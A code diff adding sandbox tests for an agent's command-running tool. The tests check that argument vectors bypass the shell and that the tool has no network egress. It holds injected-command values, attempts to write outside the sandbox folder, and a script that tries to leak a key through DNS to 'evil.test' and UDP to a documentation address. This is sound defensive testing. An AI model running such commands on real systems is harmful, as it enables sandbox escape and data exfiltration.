@@ -57,11 +57,29 @@ class RunCommandTest : public ::testing::Test {
   ToolContext context_;
 };
 
+// M6: what a shell or an allow-list of names would take for more is one argument, and the sandbox holds regardless.
 TEST_F(RunCommandTest, AnArgumentVectorRunsWithoutAShell) {
+  EXPECT_EQ(text(R"json({"argv": ["echo", "a;touch b", "$IFS", "x\ntouch c", "$(touch d)", "&& touch e"]})json"),
+            "exit code 0\nstdout (51 bytes):\na;touch b $IFS x\ntouch c $(touch d) && touch e\n");
+  EXPECT_TRUE(fs::is_empty(folder_));
+  EXPECT_EQ(error(R"({"argv": ["X=1 id"]})"), "spawn_failed ENOENT");
+  const std::string outside = (fs::path(folder_).parent_path() / "orchestrator-sorted").string();
+  execute(R"({"argv": ["sort", "-o", ")" + outside + R"(", "/etc/hostname"]})");
+  execute(R"({"argv": ["find", "/etc/hostname", "-exec", "cp", "{}", ")" + outside + R"(", ";"]})");
+  EXPECT_FALSE(fs::exists(outside));
   EXPECT_EQ(text(R"({"argv": ["echo", "$HOME; id", "`id`", "*"]})"),
             "exit code 0\nstdout (17 bytes):\n$HOME; id `id` *\n");
   EXPECT_EQ(text(R"({"command": "echo $HOME | tr / x >&2; exit 7", "shell": true})"),
             "exit code 7\nstderr (5 bytes):\nxtmp\n");
+}
+
+// M7: there is no way out but the loopback, so nothing that a command knows can leave by a name or an address.
+TEST_F(RunCommandTest, NothingLeavesWithoutAGrant) {
+  std::ofstream(folder_ + "/try.sh") << "getent hosts KEY.evil.test\n"
+                                        "timeout 5 bash -c 'echo x >/dev/udp/192.0.2.1/53' 2>/dev/null && echo sent\n"
+                                        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '\n"
+                                        "tail -n +2 /proc/net/route\n";
+  EXPECT_EQ(text(R"({"argv": ["sh", "try.sh"]})"), "exit code 0\nstdout (3 bytes):\nlo\n");
 }
 
 // TA6
